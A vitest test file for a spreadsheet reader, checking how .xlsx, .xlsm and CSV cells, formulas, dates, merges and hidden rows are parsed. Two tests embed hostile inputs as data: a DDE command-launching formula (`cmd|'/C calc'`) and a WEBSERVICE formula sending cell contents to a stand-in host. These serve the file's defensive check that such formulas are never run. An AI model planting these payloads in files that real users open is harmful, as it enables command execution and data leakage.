import { describe, expect, test } from 'vitest';
import { buildXlsx, type WorkbookInput } from '../../workbooks.ts';
import { cellsOf, firstSheet, textsOf } from './opened.ts';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** The first sheet of a workbook whose worksheet part is given. */
const sheetOf = (inside: string, parts: WorkbookInput['parts'] = {}) =>
  firstSheet(
    buildXlsx({
      sheets: [{ name: 'Danh mục', rows: [] }],
      parts: { 'xl/worksheets/sheet1.xml': `<worksheet xmlns="${MAIN}">${inside}</worksheet>`, ...parts },
    }),
  );

const row = (number: number, cells: string, attributes = ''): string =>
  `<row r="${number}"${attributes}>${cells}</row>`;
const number = (address: string, value: string | number): string => `<c r="${address}"><v>${value}</v></c>`;

describe('what Excel writes is not what a person sees, and both are kept', () => {
  test('a code that became a number keeps its digits as the file has them, a percentage its fraction', async () => {
    const cells = cellsOf(
      await firstSheet(
        buildXlsx({ sheets: [{ name: 'a', rows: [[1.00012, { value: 0.07, format: '0%' }, { raw: '3.51E+12' }]] }] }),
      ),
    );
    expect([cells['A1']!.raw, cells['B1']!.text, cells['B1']!.raw, cells['C1']!.text]).toEqual([
      '1.00012',
      '7%',
      '0.07',
      '3510000000000',
    ]);
  });

  test('a number of more than fifteen digits keeps those that the file has, and shows those that Excel kept', async () => {
    const rows = [[{ raw: '1234567890123456' }, { raw: '970415000123456789', format: '0' }]];
    const cells = cellsOf(await firstSheet(buildXlsx({ sheets: [{ name: 'a', rows }] })));
    expect([cells['A1']!.text, cells['A1']!.raw, cells['B1']!.text, cells['B1']!.raw]).toEqual([
      '1234567890123460',
      '1234567890123456',
      '970415000123457000',
      '970415000123456789',
    ]);
  });

  test('one day number is two days, by the calendar of the workbook', async () => {
    const rows = [[{ value: 44_742, format: 'dd/mm/yyyy' }]];
    const texts = async (date1904: boolean) =>
      textsOf(await firstSheet(buildXlsx({ sheets: [{ name: 'a', rows }], date1904 })));
    expect([await texts(false), await texts(true)]).toEqual([{ A1: '30/06/2022' }, { A1: '01/07/2026' }]);
  });

  test('a shared formula is known as a formula in every cell that shares it', async () => {
    const cells = cellsOf(
      await sheetOf(
        `<sheetData>${row(1, '<c r="A1"><f t="shared" ref="A1:A3" si="0">B1*2</f><v>2</v></c>')}` +
          row(2, '<c r="A2"><f t="shared" si="0"/><v>4</v></c>') +
          `${row(3, '<c r="A3"><f t="shared" si="0"></f><v>6</v></c>')}</sheetData>`,
      ),
    );
    expect(Object.entries(cells).map(([address, { text, formula }]) => [address, text, formula])).toEqual([
      ['A1', '2', true],
      ['A2', '4', true],
      ['A3', '6', true],
    ]);
  });

  test('an array formula and a data table give their cached values', async () => {
    const cells = cellsOf(
      await sheetOf(
        `<sheetData>${row(1, '<c r="A1"><f t="array" ref="A1:B1">{1,2}</f><v>1</v></c><c r="B1"><v>2</v></c>')}` +
          `${row(2, '<c r="A2"><f t="dataTable" ref="A2:A3" dt2D="0" r1="B1"/><v>9</v></c>')}</sheetData>`,
      ),
    );
    expect([cells['A1'], cells['B1']!.formula, cells['A2']!.text]).toEqual([
      { kind: 'number', text: '1', raw: '1', formula: true },
      undefined,
      '9',
    ]);
  });

  test('a command hidden in a formula is never read: only the result that Excel kept', async () => {
    const found = await sheetOf(
      `<sheetData>${row(1, `<c r="A1" t="str"><f>cmd|'/C calc'!A0</f><v>#REF!</v></c>`)}` +
        `${row(2, `<c r="A2"><f>WEBSERVICE("http://example.invalid/?"&amp;A1)</f></c>`)}</sheetData>`,
    );
    expect(cellsOf(found)).toEqual({ A1: { kind: 'text', text: '#REF!', raw: '#REF!', formula: true } });
  });

  test('a text that looks like a formula stays a text', async () => {
    const payload = "=cmd|'/C calc'!A0";
    const cells = cellsOf(await firstSheet(Buffer.from(`Mã;Tên\n${payload};x\n`), 'a.csv'));
    expect(cells['A2']).toEqual({ kind: 'text', text: payload, raw: payload });
  });
});

describe('the sheet’s own claims about itself are not believed', () => {
  const data = `<sheetData>${row(2, number('B2', 1))}${row(9, number('H9', 2))}</sheetData>`;
  test.each([
    ['too small', '<dimension ref="A1"/>'],
    ['too large', '<dimension ref="A1:XFD1048576"/>'],
    ['somewhere else', '<dimension ref="D4:E5"/>'],
    ['no range at all', '<dimension ref="#REF!"/>'],
    ['left out', ''],
  ])('a dimension that is %s hides no cell and costs nothing', async (_, dimension) => {
    const found = await sheetOf(dimension + data);
    expect(textsOf(found)).toEqual({ B2: '1', H9: '2' });
    expect([...found.rowNumbers]).toEqual([2, 9]);
  });

  test('wrong counts of strings, styles and merges, and wrong spans of rows change nothing', async () => {
    const found = await sheetOf(
      `<sheetData><row r="1" spans="5:5"><c r="A1" t="s"><v>1</v></c>${number('Z1', 7)}</row></sheetData>` +
        '<mergeCells count="99"><mergeCell ref="A1:B1"/></mergeCells>',
      {
        'xl/sharedStrings.xml': `<sst xmlns="${MAIN}" count="0" uniqueCount="1"><si><t>a</t></si><si><t>b</t></si></sst>`,
      },
    );
    expect([textsOf(found), found.merges.length]).toEqual([{ A1: 'b', Z1: '7' }, 1]);
  });

  test('values under a merged range stay with their cells', async () => {
    const found = await sheetOf(
      `<sheetData>${row(1, number('A1', 1) + number('B1', 2))}</sheetData><mergeCells><mergeCell ref="A1:B1"/></mergeCells>`,
    );
    expect(textsOf(found)).toEqual({ A1: '1', B1: '2' });
  });
});

test('rows that a filter hides are read, and known as hidden', async () => {
  const found = await sheetOf(
    `<sheetPr filterMode="1"/><sheetData>${row(1, number('A1', 1))}${row(2, number('A2', 2), ' hidden="true"')}` +
      `${row(3, number('A3', 3))}</sheetData>` +
      '<autoFilter ref="A1:A3"><filterColumn colId="0"><filters><filter val="3"/></filters></filterColumn></autoFilter>',
  );
  expect([textsOf(found), [...found.hiddenRows]]).toEqual([{ A1: '1', A2: '2', A3: '3' }, [2]]);
});

test('rows folded away by grouping are read, and known as hidden', async () => {
  const found = await sheetOf(
    `<cols><col min="2" max="3" outlineLevel="1" hidden="1" collapsed="0"/></cols>` +
      `<sheetData>${row(1, number('B1', 1), ' outlineLevel="1" hidden="1"')}</sheetData>`,
  );
  expect([[...found.hiddenRows], [...found.hiddenColumns], textsOf(found)]).toEqual([[1], [1, 2], { B1: '1' }]);
});

test('comments, drawings, links, validations and printer settings beside the cells change no cell', async () => {
  const found = await sheetOf(
    `<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2"/></sheetView></sheetViews>` +
      `<sheetData>${row(1, number('A1', 1))}</sheetData>` +
      '<dataValidations count="1"><dataValidation type="list" sqref="A1:A1048576"><formula1>"c,v,row"</formula1></dataValidation></dataValidations>' +
      '<hyperlinks><hyperlink ref="A1" display="c"/></hyperlinks><legacyDrawing xmlns:r="r" r:id="rId1"/>' +
      '<extLst><ext uri="x"><x14:conditionalFormattings xmlns:x14="y"><x14:cfRule><xm:f xmlns:xm="z">A1</xm:f></x14:cfRule></x14:conditionalFormattings></ext></extLst>',
    {
      'xl/comments1.xml': `<comments xmlns="${MAIN}"><commentList><comment ref="A1"><text><t>Ghi chú</t></text></comment></commentList></comments>`,
      'xl/worksheets/_rels/sheet1.xml.rels':
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x/hyperlink" Target="file:///c:/windows" TargetMode="External"/></Relationships>',
    },
  );
  expect(cellsOf(found)).toEqual({ A1: { kind: 'number', text: '1', raw: '1' } });
});

test('a choice of content for newer programs counts no cell twice', async () => {
  const found = await sheetOf(
    `<mc:AlternateContent xmlns:mc="m"><mc:Choice Requires="x14"/><mc:Fallback/></mc:AlternateContent>` +
      `<sheetData>${row(1, number('A1', 1))}</sheetData>`,
  );
  expect(textsOf(found)).toEqual({ A1: '1' });
});

test('macros in an .xlsm are left alone, its cells are read', async () => {
  const found = await firstSheet(
    buildXlsx({ sheets: [{ name: 'a', rows: [['Mã']] }], parts: { 'xl/vbaProject.bin': Buffer.alloc(4096, 7) } }),
    'a.xlsm',
  );
  expect(textsOf(found)).toEqual({ A1: 'Mã' });
});
